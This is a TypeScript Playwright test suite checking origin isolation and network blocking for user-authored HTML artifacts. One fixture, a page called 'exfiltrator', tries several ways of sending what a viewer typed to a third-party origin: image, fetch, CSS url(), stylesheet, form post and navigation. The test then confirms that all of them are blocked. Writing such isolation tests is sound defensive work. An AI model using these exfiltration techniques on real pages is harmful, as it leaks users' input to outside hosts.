/// <reference lib="dom" />
// Functions passed to page.evaluate run in the browser: they use DOM types.
import { type BrowserContext, type Frame, type Page } from 'playwright-core';
import { waitFor } from '@core-vault/platform/testing';
import { openView } from './browser-helpers';
import { type RendererStack } from './stack';
import { type StubArtifact } from './stub-gateway';

const SECRET = 'alice-secret-7f3a';

/**
 * Alice's artifact: keeps a secret in every kind of browser storage it is given, and keeps
 * broadcasting it. A browser may block or partition a third-party frame's storage (the app's view
 * frame is one): each kind is tried on its own and the status lists those kept.
 */
const WRITER = `<!doctype html><html><body><p id="status">working</p><script>
(async function () {
  var secret = '${SECRET}';
  var kept = [];
  async function tryKind(name, write) {
    try { await write(); kept.push(name); } catch (e) {}
  }
  await tryKind('local', function () { localStorage.setItem('k', secret); });
  await tryKind('session', function () { sessionStorage.setItem('k', secret); });
  await tryKind('cookie', function () {
    document.cookie = 'k=' + secret + '; path=/';
    document.cookie = 'kd=' + secret + '; path=/; domain=localhost';
    if (document.cookie.indexOf(secret) < 0) throw new Error('no cookies here');
  });
  await tryKind('idb', function () {
    return new Promise(function (resolve, reject) {
      var open = indexedDB.open('db', 1);
      open.onupgradeneeded = function () { open.result.createObjectStore('s'); };
      open.onerror = function () { reject(new Error('idb')); };
      open.onsuccess = function () {
        var tx = open.result.transaction('s', 'readwrite');
        tx.objectStore('s').put(secret, 'k');
        tx.oncomplete = resolve;
        tx.onerror = function () { reject(new Error('idb')); };
      };
    });
  });
  await tryKind('cache', async function () {
    var cache = await caches.open('c');
    await cache.put('/k', new Response(secret));
  });
  var channel = new BroadcastChannel('cv');
  setInterval(function () { channel.postMessage(secret); }, 50);
  document.getElementById('status').textContent = 'written: ' + kept.join(',');
})();
</script></body></html>`;

/** Reads every kind of browser storage on its own origin (also run inside Alice's frame as a control). */
async function readEverything(): Promise<Record<string, unknown>> {
  const found: Record<string, unknown> = {};
  found['local'] = localStorage.getItem('k');
  found['session'] = sessionStorage.getItem('k');
  found['cookie'] = document.cookie;
  found['idb'] = await new Promise((resolve) => {
    const open = indexedDB.open('db', 1);
    open.onupgradeneeded = () => open.result.createObjectStore('s');
    open.onerror = () => resolve(null);
    open.onsuccess = () => {
      try {
        const get = open.result.transaction('s').objectStore('s').get('k');
        get.onsuccess = () => resolve(get.result ?? null);
        get.onerror = () => resolve(null);
      } catch {
        resolve(null);
      }
    };
  });
  found['cache'] = await caches
    .match('/k')
    .then((r) => (r ? r.text() : null))
    .catch(() => null);
  found['broadcast'] = await new Promise((resolve) => {
    const channel = new BroadcastChannel('cv');
    channel.onmessage = (e) => resolve(e.data);
    setTimeout(() => resolve(null), 1_000);
  });
  return found;
}

/** Bob's artifact: only a page; the test reads from inside it, as its code could. */
const READER = `<!doctype html><html><body><p id="status">ready</p></body></html>`;

const EXFIL = 'EXFIL-typed-by-viewer';

/**
 * Network off, and it tries everything to send what the viewer typed elsewhere: an image, a fetch,
 * a CSS url(), a stylesheet, a form post, and finally navigating its own frame away. `{third}` is
 * another site on this machine that would answer.
 */
const exfiltrator = (third: string) => `<!doctype html><html><body>
<input id="typed" value="${EXFIL}"><a id="link" href="${third}/clicked">a link</a><p id="status">working</p><script>
var v = document.getElementById('typed').value;
new Image().src = '${third}/img?' + v;
fetch('${third}/fetch?' + v).catch(function () {});
var style = document.createElement('style');
style.textContent = 'body{background:url(${third}/css?' + v + ')}';
document.head.appendChild(style);
var link = document.createElement('link');
link.rel = 'stylesheet';
link.href = '${third}/link?' + v;
document.head.appendChild(link);
setTimeout(function () {
  var form = document.createElement('form');
  form.method = 'POST';
  form.action = '${third}/form?' + v;
  document.body.appendChild(form);
  try { form.submit(); } catch (e) {}
}, 200);
setTimeout(function () { location.href = '${third}/nav?' + v; }, 400);
setTimeout(function () { window.open('${third}/self?' + v, '_self'); }, 600);
setTimeout(function () { document.getElementById('status').textContent = 'tried'; }, 900);
</script></body></html>`;

export function isolationFixtures(stack: RendererStack): StubArtifact[] {
  const html = (id: string, owner: string, content: string): StubArtifact => ({
    id,
    title: id,
    type: 'HTML',
    content,
    rendered: content,
    isPublic: true,
    owner,
  });
  return [
    html('iso-alice', 'usr_alice', WRITER),
    html('iso-bob', 'usr_bob', READER),
    html('iso-exfil', 'usr_mallory', exfiltrator(stack.thirdPartyOrigin)),
  ];
}

const childFrame = (page: Page): Frame => {
  const frame = page.frames().find((f) => f !== page.mainFrame());
  if (!frame) throw new Error('no artifact frame');
  return frame;
};

/**
 * One origin per artifact (docs/reference/rendering.md, "Origins"): Alice's artifact keeps a secret in
 * every kind of browser storage; Bob's artifact, opened in the same browser while Alice's is still
 * open, finds none of it — as embeds and in the app's view frames. And network off means off.
 */
export function isolationSuite(stack: () => RendererStack) {
  let context: BrowserContext;
  beforeAll(() => stack().gateway.add(...isolationFixtures(stack())));
  beforeEach(async () => {
    context = await stack().browser.newContext();
  });
  afterEach(async () => {
    await context.close();
  });

  it('embeds: another owner’s artifact reads none of an artifact’s storage, cookies or broadcasts', async () => {
    const alice = await context.newPage();
    await alice.goto(`${stack().rendererOrigin}/embed/iso-alice`);
    await alice.locator('#status').filter({ hasText: 'written' }).waitFor();
    // A top-level page gets every kind.
    expect(await alice.locator('#status').textContent()).toBe('written: local,session,cookie,idb,cache');
    // Control: on Alice's own origin the reader finds every kind (so the check can fail).
    const own = await alice.evaluate(readEverything);
    expect(own).toMatchObject({ local: SECRET, session: SECRET, idb: SECRET, cache: SECRET });
    expect(String(own['cookie'])).toContain(SECRET);

    const bob = await context.newPage();
    await bob.goto(`${stack().rendererOrigin}/embed/iso-bob`);
    await bob.locator('#status').waitFor();
    expect(new URL(bob.url()).origin).not.toBe(new URL(alice.url()).origin);
    const found = await bob.evaluate(readEverything);
    expect(JSON.stringify(found)).not.toContain(SECRET);
    // Even broadcasts on Alice's own origin reach a second tab of it (the control for Bob's null).
    const aliceAgain = await context.newPage();
    await aliceAgain.goto(`${stack().rendererOrigin}/embed/iso-alice`);
    expect((await aliceAgain.evaluate(readEverything))['broadcast']).toBe(SECRET);
  });

  it('view frames: the same wall inside the app', async () => {
    const alice = await context.newPage();
    const aliceFrame = await openView(stack(), alice, 'iso-alice');
    await aliceFrame.locator('#status').filter({ hasText: 'written' }).waitFor();
    // In the frame, localStorage is the app's persisted storage for this artifact; what else a
    // third-party frame may keep is the browser's choice. Whatever was kept, Alice reads back.
    const kept = (await aliceFrame.locator('#status').textContent())!.slice('written: '.length).split(',');
    expect(kept).toContain('local');
    const own = await childFrame(alice).evaluate(readEverything);
    for (const kind of kept) expect(String(own[kind])).toContain(SECRET);
    const bob = await context.newPage();
    await openView(stack(), bob, 'iso-bob');
    const bobFrame = childFrame(bob);
    expect(new URL(bobFrame.url()).origin).not.toBe(new URL(childFrame(alice).url()).origin);
    expect(new URL(bobFrame.url()).host).toMatch(/^[a-z2-7]{26}\./);
    const found = await bobFrame.evaluate(readEverything);
    expect(JSON.stringify(found)).not.toContain(SECRET);
    // The area is labelled as the author's content.
    expect(await bob.locator('.cv-artifact-edge').textContent()).toContain('runs isolated');
  });

  it('network off: nothing the viewer typed leaves, and a frame that navigates itself away is stopped', async () => {
    // What reached the other site (the browser may report a request the CSP then refuses).
    const sent = () => stack().thirdPartyRequests.filter((r) => r.includes(EXFIL));
    for (const mode of ['view', 'embed'] as const) {
      const page = await context.newPage();
      if (mode === 'view') await openView(stack(), page, 'iso-exfil');
      else await page.goto(`${stack().rendererOrigin}/embed/iso-exfil`);
      const frame = mode === 'view' ? childFrame(page) : page.mainFrame();
      // Read with evaluate: a locator would wait for the navigation the frame stopped (Playwright
      // is never told it was cancelled).
      const read = () =>
        frame.evaluate(() => ({
          status: document.getElementById('status')?.textContent,
          typed: (document.getElementById('typed') as HTMLInputElement | null)?.value,
          notice: document.querySelector('[data-cv-navigation-blocked]')?.textContent ?? null,
          href: location.href,
        }));
      let last: unknown = null;
      const seen = await waitFor(read, (r) => ((last = r), r.status === 'tried' && r.notice !== null), {
        what: () => `the exfiltrator to try everything (${JSON.stringify(last)})`,
        timeoutMs: 15_000,
        intervalMs: 100,
      });
      // Still the artifact, on its own origin, with the notice of what was stopped.
      expect(seen.typed).toBe(EXFIL);
      expect(seen.notice).toContain('stopped it');
      expect(new URL(seen.href).host).toMatch(/^[a-z2-7]{26}\./);
      if (mode === 'view') expect(await page.locator('.cv-artifact-frame iframe').isVisible()).toBe(true);
      // A link the person clicks opens, in a tab of its own; the artifact stays.
      const popup = context.waitForEvent('page');
      const box = await frame.evaluate(() => {
        const r = document.getElementById('link')!.getBoundingClientRect();
        return { x: r.x + r.width / 2, y: r.y + r.height / 2 };
      });
      const offset =
        mode === 'view' ? await page.locator('.cv-artifact-frame iframe').boundingBox() : { x: 0, y: 0 };
      await page.mouse.click(box.x + offset!.x, box.y + offset!.y);
      const tab = await popup;
      expect(tab.url()).toContain('/clicked');
      await tab.close();
      expect((await read()).typed).toBe(EXFIL);
      await page.close();
    }
    expect(sent()).toEqual([]);
    // The control: the one request allowed to leave (the click, a new tab) did reach that site.
    expect(stack().thirdPartyRequests.filter((r) => r.includes('/clicked'))).toHaveLength(2);
  });
}
